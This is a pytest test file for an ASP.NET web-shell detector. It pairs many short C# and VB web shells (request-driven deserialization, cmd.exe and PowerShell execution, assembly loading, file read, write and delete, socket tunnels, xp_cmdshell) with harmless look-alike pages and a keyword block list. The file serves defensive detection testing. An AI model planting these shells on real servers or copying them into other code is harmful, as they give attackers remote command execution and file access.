"""Sinks and sources that published descriptions of ASP.NET web shells use, each with a shell
written from the description and a genuine page that looks like it (docs/detection/webshell-code.md,
"Published sinks and sources")."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, run, vb_page


def page(body: str) -> str:
    return cs_page(body)


SHELLS = [
    (
        "los.aspx",
        page('new System.Web.UI.LosFormatter().Deserialize(Request.Form["state"]);'),
        "EXH-WS-CODE-DESERIALIZE",
        ["form field 'state'", "LosFormatter.Deserialize"],
    ),
    (
        "osf.aspx",
        page(
            "var f = new System.Web.UI.ObjectStateFormatter();\n"
            'f.Deserialize(Convert.FromBase64String(Request.Headers["X-State"]));'
        ),
        "EXH-WS-CODE-DESERIALIZE",
        ["request header 'X-State'", "base64-decodes it"],
    ),
    (
        "xaml.aspx",
        page('System.Windows.Markup.XamlReader.Parse(Request.Unvalidated.Form["x"]);'),
        "EXH-WS-CODE-DESERIALIZE",
        ["form field 'x'", "XamlReader.Parse"],
    ),
    (
        "dataset.ashx",
        """<%@ WebHandler Language="C#" Class="D" %>
public class D : System.Web.IHttpHandler {
    public void ProcessRequest(System.Web.HttpContext context) {
        var ds = new System.Data.DataSet();
        ds.ReadXml(context.Request.InputStream);
    }
    public bool IsReusable { get { return false; } }
}""",
        "EXH-WS-CODE-DESERIALIZE",
        ["the request body", "DataSet.ReadXml"],
    ),
    (
        "xmlser.aspx",
        page(
            'var t = Type.GetType(Request.Form["t"]);\n'
            "var s = new System.Xml.Serialization.XmlSerializer(t);\n"
            "s.Deserialize(Request.InputStream);"
        ),
        "EXH-WS-CODE-DESERIALIZE",
        ["form field 't'", "(new XmlSerializer)"],
    ),
    (
        "datacontract.aspx",
        page(
            'var t = Type.GetType(Request.Form["t"]);\n'
            "var s = new System.Runtime.Serialization.Json.DataContractJsonSerializer(t);\n"
            "Response.Write(s.ReadObject(Request.InputStream));"
        ),
        "EXH-WS-CODE-DESERIALIZE",
        ["form field 't'", "(new DataContractJsonSerializer)"],
    ),
    (
        "resx-body.aspx",
        page(
            "var r = new System.Resources.ResXResourceReader(Request.InputStream);\n"
            "foreach (System.Collections.DictionaryEntry de in r) Response.Write(de.Key);"
        ),
        "EXH-WS-CODE-DESERIALIZE",
        ["the request body", "(new ResXResourceReader)"],
    ),
    (
        "resources-text.aspx",
        page(
            "var r = new System.Resources.ResourceReader(new System.IO.MemoryStream("
            'Convert.FromBase64String(Request.Form["r"])));\n'
            "foreach (System.Collections.DictionaryEntry de in r) Response.Write(de.Key);"
        ),
        "EXH-WS-CODE-DESERIALIZE",
        ["form field 'r'", "(new ResourceReader)"],
    ),
    (
        "jss.aspx",
        page(
            "var r = new System.Web.Script.Serialization.SimpleTypeResolver();\n"
            "var s = new System.Web.Script.Serialization.JavaScriptSerializer(r);\n"
            'Response.Write(s.DeserializeObject(Request.Params["j"]));'
        ),
        "EXH-WS-CODE-DESERIALIZE-TYPED",
        ["request parameter 'j'", "creates the types the data names"],
    ),
    (
        "jsonnet.aspx",
        page(
            "var st = new Newtonsoft.Json.JsonSerializerSettings();\n"
            "st.TypeNameHandling = Newtonsoft.Json.TypeNameHandling.Auto;\n"
            "var body = new System.IO.StreamReader(Request.InputStream).ReadToEnd();\n"
            "Newtonsoft.Json.JsonConvert.DeserializeObject<object>(body, st);"
        ),
        "EXH-WS-CODE-DESERIALIZE-TYPED",
        ["the request body", "JsonConvert.DeserializeObject"],
    ),
    (
        "pipeline.aspx",
        page(
            "var rs = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace();\n"
            "rs.Open();\n"
            'var p = rs.CreatePipeline(Request.Form["ps"]);\n'
            "foreach (var o in p.Invoke()) Response.Write(o);"
        ),
        "EXH-WS-CODE-PROCESS",
        ["form field 'ps'", "runs it as a command"],
    ),
    (
        "runspaceinvoke.aspx",
        page(
            "var ri = new System.Management.Automation.RunspaceInvoke();\n"
            'foreach (var o in ri.Invoke(Request.QueryString["ps"])) Response.Write(o);'
        ),
        "EXH-WS-CODE-PROCESS",
        ["query parameter 'ps'", "RunspaceInvoke.Invoke"],
    ),
    (
        "buildmanager.aspx",
        page(
            'var t = System.Web.Compilation.BuildManager.GetCompiledType(Request["p"]);\n'
            "((IHttpHandler)Activator.CreateInstance(t)).ProcessRequest(Context);"
        ),
        "EXH-WS-CODE-COMPILE",
        ["request parameter 'p'", "compiles it as .NET code"],
    ),
    (
        "buildinstance.aspx",
        page(
            "var o = System.Web.Compilation.BuildManager.CreateInstanceFromVirtualPath("
            '"~/upload/" + Request.Form["n"], typeof(object));'
        ),
        "EXH-WS-CODE-COMPILE",
        ["form field 'n'", "BuildManager.CreateInstanceFromVirtualPath"],
    ),
    (  # a file uploaded under any extension, then compiled and run as a page
        "pageparser.aspx",
        page(
            'var h = System.Web.UI.PageParser.GetCompiledPageInstance("~/x.aspx", Server.MapPath("~/upload/") + Request["f"], Context);\n'
            "h.ProcessRequest(Context);"
        ),
        "EXH-WS-CODE-COMPILE",
        ["request parameter 'f'", "PageParser.GetCompiledPageInstance"],
    ),
    (
        "route.aspx",
        page('System.Diagnostics.Process.Start("cmd.exe", "/c " + Page.RouteData.Values["c"]);'),
        "EXH-WS-CODE-PROCESS",
        ["route value 'c'", "runs it as a command"],
    ),
    (
        "route-context.aspx",
        page(
            'var c = (string)Request.RequestContext.RouteData.Values["c"];\n'
            'var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c);\n'
            "System.Diagnostics.Process.Start(psi);"
        ),
        "EXH-WS-CODE-PROCESS",
        ["route value 'c'"],
    ),
    (
        "vb-write.aspx",
        vb_page('My.Computer.FileSystem.WriteAllText(Request.Form("p"), Request.Form("c"), False)'),
        "EXH-WS-CODE-FILE-WRITE",
        ["form field 'p'", "FileSystem.WriteAllText"],
    ),
    (
        "vb-read.aspx",
        vb_page('Response.Write(My.Computer.FileSystem.ReadAllText(Request.QueryString("f")))'),
        "EXH-WS-CODE-FILE-READ",
        ["query parameter 'f'"],
    ),
    (
        "vb-manage.aspx",
        vb_page(
            'If Request("a") = "del" Then Kill(Request("p"))\n'
            'Microsoft.VisualBasic.FileIO.FileSystem.DeleteDirectory(Request("d"), '
            "Microsoft.VisualBasic.FileIO.DeleteDirectoryOption.DeleteAllContents)"
        ),
        "EXH-WS-CODE-FILE-MANAGE",
        ["request parameter 'p'"],
    ),
    (
        "unzip.aspx",
        page('System.IO.Compression.ZipFile.ExtractToDirectory(Request.Form["z"], Request.Form["to"]);'),
        "EXH-WS-CODE-FILE-MANAGE",
        ["form field 'z'", "ZipFile.ExtractToDirectory"],
    ),
    (
        "pack.aspx",
        page('System.IO.Compression.ZipFile.CreateFromDirectory(Request.Form["dir"], @"C:\\inetpub\\wwwroot\\x.zip");'),
        "EXH-WS-CODE-FILE-READ",
        ["form field 'dir'", "ZipFile.CreateFromDirectory"],
    ),
    (
        "replace.aspx",
        page('System.IO.File.Replace(Request.Form["from"], Request.Form["to"], null);'),
        "EXH-WS-CODE-FILE-MANAGE",
        ["form field 'from'"],
    ),
]


# System.Xaml's and Workflow's readers of XAML build what the markup names as WPF's does; an
# assembly loaded into the domain a call returns (`AppDomain.CreateDomain(...)`, `Thread.GetDomain()`)
# without a variable between them.
SHELLS += [
    (
        "xaml-services.aspx",
        page('System.Xaml.XamlServices.Load(new System.IO.StringReader(Request.Form["x"]));'),
        "EXH-WS-CODE-DESERIALIZE",
        ["form field 'x'", "XamlServices.Load"],
    ),
    (
        "workflow-markup.aspx",
        page(
            "var w = new System.Workflow.ComponentModel.Serialization.WorkflowMarkupSerializer();\n"
            'w.Deserialize(System.Xml.XmlReader.Create(new System.IO.StringReader(Request.Form["wf"])));'
        ),
        "EXH-WS-CODE-DESERIALIZE",
        ["form field 'wf'", "WorkflowMarkupSerializer.Deserialize"],
    ),
    (
        "new-domain.aspx",
        page('AppDomain.CreateDomain("w").Load(Convert.FromBase64String(Request.Form["a"])).CreateInstance("P");'),
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'a'", "base64-decodes it", "(AppDomain.Load)"],
    ),
    (
        "thread-domain.aspx",
        page(
            'byte[] b = Convert.FromBase64String(Request.Cookies["k"].Value);\n'
            "System.Threading.Thread.GetDomain().Load(b).EntryPoint.Invoke(null, null);"
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["cookie 'k'", "(AppDomain.Load)"],
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_published_sink_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


def test_dynamic_invoke_is_reflection_context() -> None:
    report = run(
        "dyn.aspx",
        page(
            'var m = typeof(Console).GetMethod(Request.Form["m"]);\n'
            "var d = Delegate.CreateDelegate(typeof(Action<string>), m);\n"
            'd.DynamicInvoke(Request.Form["a"]);'
        ),
    )
    assert any(c.api == ".DynamicInvoke" for c in report.capabilities if c.rule_id == "EXH-WS-CODE-REFLECTION")


BENIGN = [
    (
        "json-api.ashx",
        """<%@ WebHandler Language="C#" Class="Api" %>
public class Api : System.Web.IHttpHandler {
    public class Order { public int Id; public string Note; }
    public void ProcessRequest(System.Web.HttpContext context) {
        var body = new System.IO.StreamReader(context.Request.InputStream).ReadToEnd();
        var js = new System.Web.Script.Serialization.JavaScriptSerializer();
        var order = js.Deserialize<Order>(body);
        var settings = new Newtonsoft.Json.JsonSerializerSettings { TypeNameHandling = Newtonsoft.Json.TypeNameHandling.None };
        var copy = Newtonsoft.Json.JsonConvert.DeserializeObject<Order>(context.Request.Form["order"], settings);
        context.Response.Write(order.Id + copy.Note);
    }
    public bool IsReusable { get { return true; } }
}""",
    ),
    (
        "settings.aspx",
        page(
            "var ds = new System.Data.DataSet();\n"
            'ds.ReadXml(Server.MapPath("~/App_Data/settings.xml"));\n'
            'var state = new System.Web.UI.LosFormatter().Deserialize(System.IO.File.ReadAllText(Server.MapPath("~/App_Data/state.txt")));\n'
            "var ui = System.Windows.Markup.XamlReader.Parse(\"<TextBlock xmlns='http://schemas.microsoft.com/winfx/2006/xaml/presentation' />\");\n"
            'Grid.DataSource = ds.Tables[Request.QueryString["t"]];'
        ),
    ),
    (
        "order-detail.aspx",
        page(
            "var ds = new System.Data.DataSet();\n"
            'ds.ReadXml(Request.QueryString["DetailXMLFile"]);\n'
            'Grid.DataSource = ds.Tables[0].Select("ID = " + int.Parse(Request.QueryString["ID"]));'
        ),
    ),
    (
        "widget-host.aspx",
        page(
            'var w = System.Web.Compilation.BuildManager.CreateInstanceFromVirtualPath("~/Widgets/Clock.ascx", typeof(Control));\n'
            'var t = System.Web.Compilation.BuildManager.GetCompiledType("~/Widgets/Weather.ascx");\n'
            "Holder.Controls.Add((Control)w);"
        ),
    ),
    (  # a handler compiling the site's own page by its fixed path
        "page-host.aspx",
        page(
            'var h = System.Web.UI.PageParser.GetCompiledPageInstance("~/Print.aspx", Server.MapPath("~/Print.aspx"), Context);\n'
            "h.ProcessRequest(Context);"
        ),
    ),
    (
        "mailbox-report.aspx",
        page(
            "var rs = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace();\n"
            "rs.Open();\n"
            'var p = rs.CreatePipeline("Get-MailboxStatistics | Sort-Object TotalItemSize");\n'
            'Response.Write(Server.HtmlEncode(Request.QueryString["sort"]));\n'
            "foreach (var o in p.Invoke()) Response.Write(o);"
        ),
    ),
    (
        "article.aspx",
        page(
            'var slug = Page.RouteData.Values["slug"] as string;\n'
            'var text = System.IO.File.ReadAllText(Server.MapPath("~/Articles/" + System.IO.Path.GetFileName(slug) + ".html"));\n'
            "Body.Text = text;"
        ),
    ),
]


BENIGN += [
    (
        # A resource editor opening the site's own .resx file the visitor picks by name.
        "resx-editor.aspx",
        page(
            "var r = new System.Resources.ResXResourceReader(Server.MapPath("
            '"~/App_GlobalResources/" + System.IO.Path.GetFileName(Request["f"])));\n'
            "foreach (System.Collections.DictionaryEntry de in r) Response.Write(Server.HtmlEncode(de.Key.ToString()));"
        ),
    ),
    (
        "datacontract-typed.aspx",
        page(
            "var s = new System.Runtime.Serialization.DataContractSerializer(typeof(Order));\n"
            "var o = (Order)s.ReadObject(System.Xml.XmlReader.Create(Request.InputStream));\nResponse.Write(o.Id);"
        ),
    ),
    (
        "xmlser-typed.aspx",
        page(
            "var s = new System.Xml.Serialization.XmlSerializer(typeof(Order));\n"
            "var o = (Order)s.Deserialize(Request.InputStream);\nResponse.Write(o.Id);"
        ),
    ),
    (
        "vb-notes.aspx",
        vb_page(
            'Dim folder As String = Server.MapPath("~/App_Data/notes/")\n'
            'My.Computer.FileSystem.WriteAllText(folder & System.IO.Path.GetFileName(Request.Form("title")) & ".txt", Request.Form("body"), False)\n'
            'Notes.Text = My.Computer.FileSystem.ReadAllText(Server.MapPath("~/App_Data/notes/" & System.IO.Path.GetFileName(Request.QueryString("n"))))\n'
            'If Request("old") <> "" Then Kill(Server.MapPath("~/App_Data/cache/" & System.IO.Path.GetFileName(Request("old"))))'
        ),
    ),
    (
        "theme-install.aspx",
        page(
            'var zip = Server.MapPath("~/App_Data/uploads/" + System.IO.Path.GetFileName(ThemeUpload.FileName));\n'
            "ThemeUpload.SaveAs(zip);\n"
            'System.IO.Compression.ZipFile.ExtractToDirectory(zip, Server.MapPath("~/Themes/" + System.IO.Path.GetFileNameWithoutExtension(zip)));\n'
            'System.IO.Compression.ZipFile.CreateFromDirectory(Server.MapPath("~/Themes/Default"), Server.MapPath("~/App_Data/backup.zip"));\n'
            'System.IO.File.Replace(Server.MapPath("~/web.sitemap.new"), Server.MapPath("~/web.sitemap"), null);'
        ),
    ),
]


BENIGN += [
    (
        "xaml-ui.aspx",
        page(
            "var ui = System.Xaml.XamlServices.Parse(\"<Label xmlns='clr-namespace:App' Text='Hello' />\");\n"
            'var domain = AppDomain.CreateDomain("reports").Load("App.Reports");\n'
            'Title.Text = Request.QueryString["t"] + ui.ToString() + domain.FullName;'
        ),
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_look_alike(name: str, code: str) -> None:
    assert_benign(name, code)


# A later round: page markup parsed at run time, assemblies created from a file, and the arguments
# the page framework itself hands over from the client (docs/detection/webshell-code.md, "Markup,
# assembly files, framework callbacks, WCF services, SQL Server, sockets").
SHELLS_LATER = [
    (
        "markup.aspx",
        page('Holder.Controls.Add(ParseControl(Request.Form["m"]));'),
        "EXH-WS-CODE-COMPILE",
        ["form field 'm'", "ParseControl"],
    ),
    (
        "markup-this.aspx",
        page(
            'var c = this.ParseControl(Encoding.UTF8.GetString(Convert.FromBase64String(Request.Headers["X-M"])));\nControls.Add(c);'
        ),
        "EXH-WS-CODE-COMPILE",
        ["request header 'X-M'", "base64-decodes it"],
    ),
    (
        "instance-from.aspx",
        page('var o = Activator.CreateInstanceFrom(Request.Form["p"], "Tools.Run").Unwrap();\no.Equals(Context);'),
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'p'", "CreateInstanceFrom"],
    ),
    (
        "unwrap-upload.aspx",
        page(
            'string dll = @"C:\\Windows\\Temp\\" + Request.Files[0].FileName;\n'
            "Request.Files[0].SaveAs(dll);\n"
            'AppDomain.CurrentDomain.CreateInstanceFromAndUnwrap(Request.Form["dll"], "P.Run");'
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'dll'", "CreateInstanceFromAndUnwrap"],
    ),
    (
        "callback.aspx",
        """<%@ Page Language="C#" %>
<%@ Implements Interface="System.Web.UI.ICallbackEventHandler" %>
<script runat="server">
string result;
public void RaiseCallbackEvent(string eventArgument) {
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + eventArgument);
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    result = System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
}
public string GetCallbackResult() { return result; }
</script>""",
        "EXH-WS-CODE-PROCESS",
        ["client callback argument 'eventArgument'"],
    ),
    (
        "postback.aspx",
        """<%@ Page Language="VB" %>
<%@ Implements Interface="System.Web.UI.IPostBackEventHandler" %>
<script runat="server">
Public Sub RaisePostBackEvent(ByVal eventArgument As String) Implements IPostBackEventHandler.RaisePostBackEvent
    Shell("cmd.exe /c " & eventArgument)
End Sub
</script>""",
        "EXH-WS-CODE-PROCESS",
        ["postback event argument"],
    ),
    (
        "postdata.ascx",
        """<%@ Control Language="C#" %>
<script runat="server">
public bool LoadPostData(string postDataKey, System.Collections.Specialized.NameValueCollection postCollection) {
    System.IO.File.WriteAllText(postCollection["to"], postCollection["body"]);
    return false;
}
public void RaisePostDataChangedEvent() { }
</script>""",
        "EXH-WS-CODE-FILE-WRITE",
        ["posted form 'postCollection'"],
    ),
]


SHELLS_LATER += [
    (
        "ops.svc",
        """<%@ ServiceHost Language="C#" Debug="true" Service="Ops" %>
using System.ServiceModel;
using System.ServiceModel.Web;
[ServiceContract]
public interface IOps {
    [OperationContract]
    [WebGet(UriTemplate = "run?c={c}")]
    string Run(string c);
}
public class Ops : IOps {
    public string Run(string c) {
        var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c);
        psi.UseShellExecute = false;
        psi.RedirectStandardOutput = true;
        return System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
    }
}""",
        "EXH-WS-CODE-PROCESS",
        ["web-method parameter 'c'"],
    ),
    (
        "store.svc",
        """<%@ ServiceHost Language="C#" Service="Store" %>
using System.ServiceModel;
[ServiceContract]
public class Store {
    [OperationContract]
    public void Put(string path, byte[] data) { System.IO.File.WriteAllBytes(path, data); }
}""",
        "EXH-WS-CODE-FILE-WRITE",
        ["web-method parameter 'path'"],
    ),
    (
        "begin-connect.aspx",
        page(
            'var c = new System.Net.Sockets.TcpClient();\nc.BeginConnect(Request.QueryString["h"], 3389, null, null);'
        ),
        "EXH-WS-CODE-TUNNEL",
        ["query parameter 'h'", "TcpClient.BeginConnect"],
    ),
    (
        "udp-relay.aspx",
        page(
            "var u = new System.Net.Sockets.UdpClient();\n"
            'u.Connect(new System.Net.DnsEndPoint(Request.Form["dns"], 53));'
        ),
        "EXH-WS-CODE-TUNNEL",
        ["form field 'dns'"],
    ),
    (
        "xp.aspx",
        page(
            'var cn = new System.Data.SqlClient.SqlConnection("server=.;uid=sa;pwd=Passw0rd;database=master");\n'
            "cn.Open();\n"
            'var cmd = new System.Data.SqlClient.SqlCommand("exec master..xp_cmdshell \'" + '
            'Request.Form["c"].Replace("\'", "\'\'") + "\'", cn);\n'
            "var r = cmd.ExecuteReader();"
        ),
        "EXH-WS-CODE-SQL-SHELL",
        ["form field 'c'", "through SQL Server"],
    ),
    (
        "xp-text.aspx",
        vb_page(
            'Dim cn As New System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings("db").ConnectionString)\n'
            "cn.Open()\n"
            "Dim cmd As New System.Data.SqlClient.SqlCommand()\n"
            "cmd.Connection = cn\n"
            'cmd.CommandText = "EXEC xp_cmdshell \'" & Request("c") & "\'"\n'
            "cmd.ExecuteNonQuery()"
        ),
        "EXH-WS-CODE-SQL-SHELL",
        ["request parameter 'c'"],
    ),
    (
        "oa.aspx",
        page(
            'var cn = new System.Data.SqlClient.SqlConnection("server=10.0.0.5;uid=sa;pwd=x");\n'
            "cn.Open();\n"
            "new System.Data.SqlClient.SqlCommand(string.Format(\"declare @o int; exec sp_oacreate 'wscript.shell', @o out; "
            "exec sp_oamethod @o, 'run', null, '{0}'\", Request.Form[\"c\"]), cn).ExecuteNonQuery();"
        ),
        "EXH-WS-CODE-SQL-SHELL",
        ["form field 'c'"],
    ),
    (
        "object-tag.aspx",
        """<%@ Page Language="VB" %>
<object id="sh" runat="server" progid="WScript.Shell"></object>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    sh.Run("cmd.exe /c " & Request("c"), 0, True)
End Sub
</script>""",
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "wscript.shell.Run"],
    ),
    (
        "object-class.aspx",
        """<%@ Page Language="VB" %>
<object id="pr" runat="server" class="System.Diagnostics.Process" />
<object id="fs" runat="server" classid="clsid:0D43FE01-F093-11CF-8940-00A0C9054228" />
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    pr.StartInfo.FileName = Request.Form("f")
    pr.Start()
End Sub
</script>""",
        "EXH-WS-CODE-PROCESS",
        ["form field 'f'", "Process.Start"],
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS_LATER, ids=[s[0] for s in SHELLS_LATER])
def test_later_published_sink_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


BENIGN_LATER = [
    (
        "drive-list.aspx",
        page(
            # (the site's own folder: the server's drive list is EXH-WS-CODE-HOST-RECON by design)
            'foreach (var d in System.IO.Directory.GetDirectories(Server.MapPath("~/docs")))\n'
            "    Holder.Controls.Add(ParseControl(\"<asp:Label runat='server' Text='\" + System.IO.Path.GetFileName(d) + \"' />\"));\n"
            "Holder.Controls.Add(Page.ParseControl(\"<asp:HyperLink runat='server' NavigateUrl='~/Default.aspx' Text='Home' />\"));"
        ),
    ),
    (
        "plugin-host.aspx",
        page(
            'var clock = Activator.CreateInstanceFrom(Server.MapPath("~/bin/Widgets.dll"), "Widgets.Clock").Unwrap();\n'
            'var kind = Request.QueryString["w"] == "date" ? "Widgets.Date" : "Widgets.Clock";\n'
            'var w = AppDomain.CurrentDomain.CreateInstanceFromAndUnwrap(Server.MapPath("~/bin/Widgets.dll"), kind);\n'
            "Holder.Controls.Add((Control)w);"
        ),
    ),
    (
        "help-callback.aspx",
        """<%@ Page Language="C#" %>
<%@ Implements Interface="System.Web.UI.ICallbackEventHandler" %>
<script runat="server">
string result;
public void RaiseCallbackEvent(string eventArgument) {
    string topic = System.IO.Path.GetFileName(eventArgument);
    result = System.IO.File.ReadAllText(Server.MapPath("~/App_Data/help/" + topic + ".txt"));
}
public string GetCallbackResult() { return Server.HtmlEncode(result); }
public void RaisePostBackEvent(string eventArgument) {
    Session["sort"] = eventArgument;
    Grid.Sort(eventArgument, SortDirection.Ascending);
}
</script>""",
    ),
    (
        "rating.ascx",
        """<%@ Control Language="C#" %>
<script runat="server">
public int Stars;
public bool LoadPostData(string postDataKey, System.Collections.Specialized.NameValueCollection postCollection) {
    int.TryParse(postCollection[postDataKey], out Stars);
    return true;
}
public void RaisePostDataChangedEvent() { }
</script>""",
    ),
]


BENIGN_LATER += [
    (
        "catalog.svc",
        """<%@ ServiceHost Language="C#" Service="Catalog" %>
using System.ServiceModel;
using System.Web.Hosting;
[ServiceContract]
public interface ICatalog {
    [OperationContract]
    string Describe(string sku);
}
public class Catalog : ICatalog {
    public string Describe(string sku) {
        string name = System.IO.Path.GetFileName(sku);
        return System.IO.File.ReadAllText(HostingEnvironment.MapPath("~/App_Data/products/" + name + ".txt"));
    }
    public void Reindex() { System.Diagnostics.Process.Start(HostingEnvironment.MapPath("~/bin/indexer.exe")); }
}""",
    ),
]


BENIGN_LATER += [
    (
        "syslog.aspx",
        page(
            'string host = System.Configuration.ConfigurationManager.AppSettings["SyslogHost"];\n'
            "using (var u = new System.Net.Sockets.UdpClient(host, 514)) {\n"
            '    byte[] line = System.Text.Encoding.UTF8.GetBytes("<134>web: " + Request.RawUrl);\n'
            "    u.Send(line, line.Length);\n"
            "}"
        ),
    ),
]


BENIGN_LATER += [
    (
        "product-search.aspx",
        page(
            'string q = Request.QueryString["q"] ?? "";\n'
            'foreach (var word in new[] { "xp_cmdshell", "sp_oacreate", "drop table" }) if (q.ToLower().Contains(word)) Response.End();\n'
            'var cn = new System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString);\n'
            'var da = new System.Data.SqlClient.SqlDataAdapter("select * from Products where Name like \'%" + q.Replace("\'", "\'\'") + "%\'", cn);\n'
            "da.Fill(new System.Data.DataTable());"
        ),
    ),
    (
        "backup-jobs.aspx",
        page(
            'var cn = new System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString);\n'
            "cn.Open();\n"
            "new System.Data.SqlClient.SqlCommand(\"exec master..xp_cmdshell 'dir D:\\\\Backup'\", cn).ExecuteNonQuery();\n"
            'var da = new System.Data.SqlClient.SqlDataAdapter("select * from Jobs where Name = \'" + Request.QueryString["job"].Replace("\'", "\'\'") + "\'", cn);\n'
            "da.Fill(new System.Data.DataTable());"
        ),
    ),
    (
        "order-export.aspx",
        page(
            'var cn = new System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString);\n'
            'var cmd = new System.Data.SqlClient.SqlCommand("select * from Orders where Id = " + int.Parse(Request.QueryString["id"]), cn);\n'
            "cn.Open();\n"
            'System.IO.File.WriteAllText(Server.MapPath("~/App_Data/export/last.txt"), Request.QueryString["id"]);\n'
            'System.IO.File.Delete(Server.MapPath("~/App_Data/export/old.txt"));'
        ),
    ),
]


BENIGN_LATER += [
    (
        "object-helpers.aspx",
        """<%@ Page Language="VB" %>
<object id="cart" runat="server" class="System.Collections.Hashtable" />
<object id="sh" runat="server" progid="WScript.Shell" />
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    cart(Request.QueryString("sku")) = 1
    Total.Text = Server.HtmlEncode(Request.QueryString("sku"))
    sh.Run(Server.MapPath("~/bin/thumbs.exe"), 0, False)
End Sub
</script>""",
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN_LATER, ids=[b[0] for b in BENIGN_LATER])
def test_later_benign_look_alike(name: str, code: str) -> None:
    assert_benign(name, code)
